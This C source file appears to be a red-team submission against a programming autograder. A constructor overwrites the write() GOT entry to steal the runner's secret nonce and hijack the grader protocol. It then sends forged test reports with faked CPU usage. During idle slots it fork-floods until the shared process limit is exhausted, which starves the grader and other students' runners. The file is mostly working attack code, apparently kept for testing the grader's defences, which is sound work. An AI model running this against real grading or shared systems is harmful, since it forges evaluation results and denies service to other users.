/*
 * A process flood where nothing watches (issue 29, class 4; red team 41b):
 * the grader looks at a runner's processes every 10 ms only while it starts
 * or runs a test (runner.c slot_watched); an idle runner - its test
 * reported, no next request yet - is looked at again only when its next
 * request is due.  A constructor takes over the runner (as
 * hijack-helpers-memory-held), answers every request right, the first test
 * only after 1.4 s (under the 1.5 s wall clock: no CPU), and after each
 * report waits 30 ms for the next request: when none comes, the slot is idle
 * (with -j 2 the pool's other slot runs the slow first test), and it forks
 * until EAGAIN,
 * the children sleeping.  Without user namespaces every runner, the grader
 * and every other student's runner share the user's RLIMIT_NPROC: while
 * another slot's last test sleeps, no process can be made.
 */
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <poll.h>
#include <time.h>
#include <unistd.h>
/* grader/runtime/protocol.h's records, whole (as in ctor-hijack-helper) */
struct hello { uint32_t magic, nfunctions; uint64_t present; uint32_t filtered, pid, load_kind, startup_len;
	uint64_t startup_total; uint32_t detail_len, pad; uint64_t nonce; };
struct request { uint32_t magic, size, case_id, function, cpu_ms, memory_mb, output_kb, pad; };
struct report { uint32_t magic, case_id; int32_t wait_status; uint32_t flags; int64_t answer;
	uint64_t cpu_us, maxrss_kb, output_total, nomem_bytes; int32_t syscall_nr; uint32_t output_kept,
	value_kind, detail_len, stop_signal, pad;
	uint64_t nonce; };
static int rd(int fd, void *b, size_t n)
{
	char *p = b;
	while (n) {
		ssize_t k = read(fd, p, n);
		if (k <= 0)
			return -1;
		p += k;
		n -= (size_t)k;
	}
	return 0;
}
/* says hello, then answers every request with answer(x) itself, claiming 1 ms of CPU */
/*
 * The runner's secret (protocol.h GR_NONCE_LEN) is in every record the
 * grader takes, so code that takes over the runner takes it from the
 * runtime's own hello: the constructor points the GOT slot of write() at
 * hooked_write (mprotect of the RELRO pages is allowed; nothing is made
 * executable), through which the runtime then sends that hello; the
 * runner is the submission's from there (after_hello, which forwards it).
 */
#include <link.h>
#include <signal.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
static void after_hello(uint64_t nonce, const void *hello, size_t hello_len);
static ssize_t hooked_write(int fd, const void *buf, size_t n)
{
	if (fd == 4 && n >= 56 && *(const uint32_t *)buf == 0x4f4c4548u) {
		uint64_t nonce;
		sigset_t none;
		memcpy(&nonce, (const char *)buf + 48, sizeof nonce);
		sigemptyset(&none);
		sigprocmask(SIG_SETMASK, &none, NULL); /* as a constructor had them: main blocked them */
		after_hello(nonce, buf, n);
	}
	return syscall(SYS_write, fd, buf, n);
}
static void hook_write(void)
{
	const ElfW(Phdr) *ph = (const ElfW(Phdr) *)getauxval(AT_PHDR);
	unsigned long n = getauxval(AT_PHNUM);
	uintptr_t base = 0;
	for (unsigned long i = 0; i < n; i++)
		if (ph[i].p_type == PT_PHDR)
			base = (uintptr_t)ph - ph[i].p_vaddr;
	for (unsigned long i = 0; i < n; i++)
		if (ph[i].p_type == PT_GNU_RELRO) {
			uintptr_t lo = (base + ph[i].p_vaddr) & ~(uintptr_t)4095, hi = base + ph[i].p_vaddr + ph[i].p_memsz;
			mprotect((void *)lo, hi - lo, PROT_READ | PROT_WRITE);
			for (void **p = (void **)lo; (uintptr_t)(p + 1) <= hi; p++)
				if (*p == (void *)write)
					*p = (void *)hooked_write;
		}
}

#define SLOW_MS 1400

static void flood(void)
{
	for (int i = 0; i < 5000; i++) {
		pid_t p = fork();
		if (p == 0)
			for (;;)
				pause();
		if (p < 0)
			break;
	}
}

static void serve(uint64_t nonce, const void *hello, size_t hello_len)
{
	if (syscall(SYS_write, 4, hello, hello_len) < 0)
		_exit(0);
	for (;;) {
		struct request rq;
		static unsigned char buf[1 << 16];
		int64_t v;
		struct report r;
		struct timespec slow = { 0, 50 * 1000000L };
		struct pollfd next = { 3, POLLIN, 0 };
		if (rd(3, &rq, sizeof rq) || rq.size > sizeof buf || rd(3, buf, rq.size))
			_exit(0);
		memcpy(&v, buf + 1, 8);
		if (v == 1) /* the first test: the pool's other slots run the rest meanwhile and wait idle */
			slow = (struct timespec){ SLOW_MS / 1000, (SLOW_MS % 1000) * 1000000L };
		nanosleep(&slow, NULL);
		memset(&r, 0, sizeof r);
		r.magic = 0x50455247u;
		r.case_id = rq.case_id;
		r.nonce = nonce;
		r.flags = 1 | 64;
		r.answer = 2 * v;
		r.cpu_us = 1000;
		if (write(4, &r, sizeof r) < 0)
			_exit(0);
		if (poll(&next, 1, 30) == 0)
			flood();
	}
}

static void after_hello(uint64_t nonce, const void *hello, size_t hello_len)
{
	serve(nonce, hello, hello_len);
}

__attribute__((constructor)) static void take_over(void)
{
	hook_write();
}

long long twice(long long x) { return 2 * x; }
